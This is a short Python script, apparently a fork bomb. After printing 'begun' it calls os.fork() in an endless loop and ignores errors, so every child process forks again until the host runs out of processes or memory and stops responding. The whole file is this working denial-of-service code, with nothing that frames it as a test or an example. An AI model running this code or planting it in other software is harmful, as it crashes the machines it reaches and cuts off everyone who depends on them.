"""Forks as long as it can, in every process that it makes."""
import os

print("begun", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
